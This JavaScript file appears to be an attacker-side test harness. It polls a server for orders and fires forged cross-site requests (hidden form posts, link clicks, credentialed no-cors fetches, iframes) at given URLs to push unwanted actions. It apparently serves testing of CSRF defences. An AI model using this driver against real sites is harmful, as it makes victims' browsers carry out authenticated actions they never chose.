// The attacker's window: it asks what to do next, and does just that.
const item = 'a thing you never wanted'
const pause = (ms) => new Promise((done) => setTimeout(done, ms))

function element(name, properties) {
  const made = Object.assign(document.createElement(name), properties)
  document.body.append(made)
  return made
}

// Each returns how long to wait before asking again. What takes the whole window along does not come back to it;
// where that fails, the window goes on.
const attacks = {
  'form-post'(url) {
    const form = element('form', { method: 'post', action: url, hidden: true })
    form.append(Object.assign(document.createElement('input'), { name: 'item', value: item }))
    form.submit()
    return 3000
  },
  link(url) {
    element('a', { href: url, hidden: true }).click()
    return 3000
  },
  async fetch(url) {
    const body = new URLSearchParams({ item })
    // What is answered cannot be read from here, and need not be.
    await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})
    return 0
  },
  frame(url) {
    for (const old of document.querySelectorAll('iframe')) old.remove()
    element('iframe', { src: url, width: 300, height: 150 })
    return 0
  },
}

async function next() {
  const response = await fetch('next', { cache: 'no-store' })
  if (response.status === 204) return 0
  if (!response.ok) return 3000
  const order = await response.json()
  if (order.do === 'close') {
    window.close()
    return 3000
  }
  return attacks[order.attack](order.url)
}

for (;;) await pause(await next().catch(() => 1000))
